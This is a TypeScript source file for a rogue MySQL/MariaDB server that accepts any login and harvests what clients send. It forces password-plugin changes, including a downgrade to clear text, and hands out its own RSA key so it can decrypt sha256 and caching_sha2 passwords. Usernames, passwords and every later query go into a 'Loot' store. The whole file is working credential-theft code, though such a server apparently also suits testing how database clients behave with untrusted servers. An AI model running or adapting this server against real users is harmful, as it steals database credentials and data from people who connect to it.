import { constants, generateKeyPairSync, privateDecrypt, randomBytes } from 'node:crypto';
import { Loot, listen, type Rogue, type RogueCertificate, type Wire } from './listen.ts';

/** How a rogue asks for a password: in clear text, encrypted with its own key (`full-sha2`), or as the hashes of old. */
export type MysqlQuestion = 'clear' | 'full-sha2' | 'sha256' | 'native' | 'old';

const plugins: Readonly<Record<MysqlQuestion, string>> = {
  clear: 'mysql_clear_password',
  'full-sha2': 'caching_sha2_password',
  sha256: 'sha256_password',
  native: 'mysql_native_password',
  old: 'mysql_old_password',
};

export interface MysqlRogueOptions {
  /** Null: it says that it knows no TLS. */
  readonly tls: RogueCertificate | null;
  readonly asks: MysqlQuestion;
  /** What it says it is; `5.5.5-11.8.9-MariaDB` for a MariaDB. */
  readonly version: string;
}

/** Protocol 4.1, transactions, secure connection, plugins, and their data with a length (client/server protocol, capability flags). */
const capabilities = 0x1 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x80000 | 0x200000;
const tlsCapability = 0x800;

/** A server of MySQL or MariaDB that is nobody's: it knows no account, and takes whatever a client shows. */
export async function mysqlRogue(options: MysqlRogueOptions): Promise<Rogue> {
  const loot = new Loot();
  return listen(loot, (wire) => new Conversation(wire, options, loot).run());
}

class Conversation {
  readonly #wire: Wire;
  readonly #options: MysqlRogueOptions;
  readonly #loot: Loot;
  readonly #scramble = Buffer.from(randomBytes(20).map((byte) => (byte % 90) + 33));
  #sequence = 0;

  constructor(wire: Wire, options: MysqlRogueOptions, loot: Loot) {
    this.#wire = wire;
    this.#options = options;
    this.#loot = loot;
  }

  async run(): Promise<void> {
    const { tls, asks } = this.#options;
    this.#send(this.#greeting());
    let login = await this.#take();
    if (login.readUInt32LE(0) & tlsCapability && tls !== null) {
      await this.#wire.secure(tls, this.#loot);
      login = await this.#take();
    }
    this.#loot.users.push(login.subarray(32, login.indexOf(0, 32)).toString());
    this.#note(login);
    if (asks === 'full-sha2') await this.#askInFull();
    else {
      this.#send(Buffer.concat([Buffer.from([0xfe]), zeroEnded(plugins[asks]), this.#scramble, Buffer.from([0])]));
      this.#note(await this.#take());
      if (asks === 'sha256') await this.#askWithKey();
    }
    this.#send(Buffer.from([0, 0, 0, 2, 0, 0, 0]));
    for (;;) {
      this.#loot.commands.push((await this.#take()).toString('latin1'));
      this.#send(Buffer.from([0, 0, 0, 2, 0, 0, 0]));
    }
  }

  /** Full authentication of caching_sha2_password: in clear over TLS, else encrypted with a key for which the client asks. */
  async #askInFull(): Promise<void> {
    this.#send(Buffer.concat([Buffer.from([0xfe]), zeroEnded(plugins['full-sha2']), this.#scramble, Buffer.from([0])]));
    this.#note(await this.#take());
    this.#send(Buffer.from([1, 4]));
    const answer = await this.#take();
    if (answer.length === 1 && answer[0] === 2) await this.#askWithKey();
    else this.#note(answer);
  }

  async #askWithKey(): Promise<void> {
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    this.#send(Buffer.concat([Buffer.from([1]), Buffer.from(publicKey.export({ type: 'spki', format: 'pem' }))]));
    const hidden = await this.#take();
    const mixed = privateDecrypt({ key: privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING }, hidden);
    this.#note(Buffer.from(mixed.map((byte, index) => byte ^ (this.#scramble[index % 20] ?? 0))));
  }

  /** What could be a password: text that ends with a zero. */
  #note(answer: Buffer): void {
    this.#loot.answers.push(answer);
    const text = answer.subarray(0, -1).toString('latin1');
    if (answer.at(-1) === 0 && /^[\x20-\x7e]+$/.test(text)) this.#loot.passwords.push(text);
  }

  #greeting(): Buffer {
    const { tls, asks, version } = this.#options;
    const flags = capabilities | (tls === null ? 0 : tlsCapability);
    const body = Buffer.alloc(31);
    body.writeUInt32LE(7, 0);
    this.#scramble.copy(body, 4, 0, 8);
    body.writeUInt16LE(flags & 0xffff, 13);
    body.writeUInt8(45, 15);
    body.writeUInt16LE(2, 16);
    body.writeUInt16LE(flags >>> 16, 18);
    body.writeUInt8(21, 20);
    // The plugin that the client begins with; what it is asked for comes as a change of it.
    const first = asks === 'full-sha2' ? plugins['full-sha2'] : plugins.native;
    const rest = [this.#scramble.subarray(8), Buffer.from([0]), zeroEnded(first)];
    return Buffer.concat([Buffer.from([10]), zeroEnded(version), body, ...rest]);
  }

  #send(payload: Buffer): void {
    const head = Buffer.alloc(4);
    head.writeUIntLE(payload.length, 0, 3);
    head.writeUInt8(this.#sequence++ & 0xff, 3);
    this.#wire.send(Buffer.concat([head, payload]));
  }

  async #take(): Promise<Buffer> {
    const head = await this.#wire.take(4);
    this.#sequence = (head.readUInt8(3) + 1) & 0xff;
    return this.#wire.take(head.readUIntLE(0, 3));
  }
}

const zeroEnded = (text: string): Buffer => Buffer.from(`${text}\0`, 'latin1');
